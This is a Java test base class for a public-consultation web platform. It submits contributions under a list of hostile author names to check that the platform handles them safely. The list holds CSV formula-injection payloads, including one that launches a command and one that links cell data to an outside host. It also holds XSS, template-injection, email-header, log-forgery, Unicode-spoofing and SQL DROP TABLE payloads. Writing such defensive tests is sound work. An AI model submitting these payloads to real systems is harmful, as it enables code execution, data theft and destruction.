package org.egide.platform;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.egide.consultation.Consultation;
import org.egide.consultation.Member;
import org.egide.consultation.ModerationMode;
import org.egide.consultation.Role;
import org.egide.testing.Site;
import org.egide.testing.TestClock;
import org.egide.testing.TestConsultations;
import org.egide.testing.TestKeycloak;
import org.egide.testing.WholeSiteTest;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeEach;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** What the tests of hostile names share: everybody who contributes has one. */
@WholeSiteTest
abstract class HostileNamesTest {

    /** At most 100 characters each, as names are. */
    static final List<String> NAMES = List.of(
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"https://ailleurs.example.org?\"&A1,\"ici\")",
            "+33 6 00 00 00 00",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "＝1+1",
            "O\"Neill\",\"une autre\";cellule",
            "\u202Egpj.exe\u202C",
            "\u2066caché\u2069 \u200Bet invisible",
            "<img src=x onerror=alert(1)>",
            "\"><script>alert(1)</script>",
            "</title></textarea><svg onload=alert(1)>",
            "${7919*7907} #{7919*7907} *{7919*7907} [[${7919*7907}]] __${7919*7907}__::.x",
            "{{7919*7907}} %s%n%x {0} ''{1}''",
            "Nom\r\nBcc: victime@example.org",
            "Nom\n2021-04-01T12:00:00.000Z ERROR 1 --- [egide] zyxforge : fausse ligne",
            "'; DROP TABLE register.contribution; --");

    static final JsonMapper JSON = JsonMapper.shared();

    @LocalServerPort
    int port;

    @Autowired
    @SuppressWarnings("NullAway.Init")
    TestConsultations made;

    @Autowired
    @SuppressWarnings("NullAway.Init")
    TestClock clock;

    @SuppressWarnings("NullAway.Init")
    Site site;

    @SuppressWarnings("NullAway.Init")
    String slug;

    @SuppressWarnings("NullAway.Init")
    String api;

    /** The codes of the receipts, in the order of names. */
    @SuppressWarnings("NullAway.Init")
    List<String> codes;

    @BeforeEach
    void everyoneOfThemContributes() {
        clock.reset();
        site = Site.on(port);
        Consultation consultation = made.create(TestConsultations.draft(
                TestConsultations.calendar("2021-02-09", "2021-02-25", "2021-04-23"),
                ModerationMode.AFTER_PUBLICATION,
                List.of(
                        new Member(Role.OWNER, "Inventé maître", "maitre-ouvrage@example.org"),
                        new Member(Role.GUARANTOR, "Inventé garant", "garant@example.org"))));
        slug = consultation.slug();
        api = "/api/v1/consultations/" + slug;
        codes = new ArrayList<>();
        for (int i = 0; i < NAMES.size(); i++) {
            codes.add(contribute(NAMES.get(i), address(i)));
        }
    }

    /** The code of the receipt. */
    private String contribute(String name, String address) {
        Map<String, Object> words = Map.of(
                "theme",
                "water",
                "kind",
                "OPINION",
                "title",
                name,
                "body",
                "Le nom : " + name,
                "authorName",
                name,
                "publishName",
                true,
                "email",
                address);
        String answer = Site.text(site.post(api + "/contributions", JSON.writeValueAsBytes(words), "fr"));
        return JSON.readTree(answer).path("receipt").asString();
    }

    String address(int i) {
        return "=n" + i + "@" + slug + ".example.org";
    }

    JsonNode queue() {
        return JSON.readTree(ask(HttpMethod.GET, api + "/moderation/queue?limit=100", "garant", null))
                .path("items");
    }

    Document page(String address, @Nullable String session) {
        var request = site.client().get().uri(address).header("Accept", "text/html");
        if (session != null) {
            request.header("Cookie", session);
        }
        return Jsoup.parse(Site.text(request.exchange().expectStatus().isOk()));
    }

    String ask(HttpMethod method, String address, String user, @Nullable Map<String, ?> body) {
        var request = site.client()
                .method(method)
                .uri(address)
                .headers(headers -> headers.setBearerAuth(TestKeycloak.tokenOf(user)))
                .contentType(MediaType.APPLICATION_JSON);
        var answer = (body == null ? request : request.bodyValue(body)).exchange();
        return Site.text(answer.expectStatus().is2xxSuccessful());
    }
}
